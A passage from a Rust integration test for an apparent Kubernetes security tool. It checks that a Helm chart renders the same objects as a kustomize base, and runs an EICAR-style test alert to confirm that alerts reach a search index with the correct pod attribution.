        objects_of(&String::from_utf8_lossy(&rendered.stdout))
    };
    let mut kustomize = objects_of(&kubectl(&["kustomize", base]));
    assert!(kustomize.len() >= 20, "the base has its objects: {}", kustomize.len());
    // With namespace.create the chart also renders the Namespace (for `helm template | kubectl apply`).
    let with_namespace = render(&["--set", "namespace.create=true"]);
    assert_eq!(with_namespace, kustomize, "the chart with namespace.create=true is the base");
    // Its defaults leave the Namespace to `helm install --create-namespace`: everything else is the base's.
    let namespace = ("Namespace".to_owned(), String::new(), "palisade".to_owned());
    assert!(kustomize.remove(&namespace).is_some(), "the base has the Namespace");
    let defaults = render(&[]);
    let only_helm: Vec<_> = defaults.keys().filter(|key| !kustomize.contains_key(*key)).collect();
    let only_kustomize: Vec<_> = kustomize.keys().filter(|key| !defaults.contains_key(*key)).collect();
    assert!(
        only_helm.is_empty() && only_kustomize.is_empty(),
        "only in the chart: {only_helm:?}; only in the base: {only_kustomize:?}"
    );
    for (key, object) in &kustomize {
        assert_eq!(&defaults[key], object, "{key:?} differs between the chart and the base");
    }
}

/// Runs the image's `test-alert` in a pod named `pod` of `namespace` and waits for its K8S.NODE_EICAR alert in
/// the index.
fn smoke_test(namespace: &str, pod: &str) -> Option<Value> {
    kubectl(&["-n", namespace, "run", pod, "--image", PALISADE_IMAGE, "--restart=Never", "--", "test-alert"]);
    wait_for_document(
        json!({"bool": {"must": [
            {"term": {"rule.id": "K8S.NODE_EICAR"}},
            {"term": {"orchestrator.resource.name": pod}},
            {"term": {"orchestrator.namespace": namespace}}
        ]}}),
        Duration::from_secs(180),
    )
}

/// Every test alert in the index, newest first, as (time, namespace, pod, container): a smoke test whose alert
/// is missing shows whether it was raised without its pod (attribution) or not at all (the pipeline).
fn test_alerts_indexed() -> String {
    refresh_index();
    let mut alerts = indexed_alerts(json!({"term": {"rule.id": "K8S.NODE_EICAR"}}));
    alerts.sort_by(|a, b| b["@timestamp"].as_str().cmp(&a["@timestamp"].as_str()));
    let lines: Vec<String> = alerts
        .iter()
        .map(|alert| {
            format!(
                "{} namespace={} pod={} container={}",
                alert["@timestamp"].as_str().unwrap_or("?"),
                alert["orchestrator"]["namespace"].as_str().unwrap_or("-"),
                alert["orchestrator"]["resource"]["name"].as_str().unwrap_or("-"),
                alert["container"]["id"].as_str().unwrap_or("-"),
            )
        })
        .collect();
    format!("--- K8S.NODE_EICAR alerts indexed, newest first\n{}\n", lines.join("\n"))
}

fn wait_for_document(query: Value, timeout: Duration) -> Option<Value> {
    common::wait_for_document(INDEX_PREFIX, query, timeout)
}
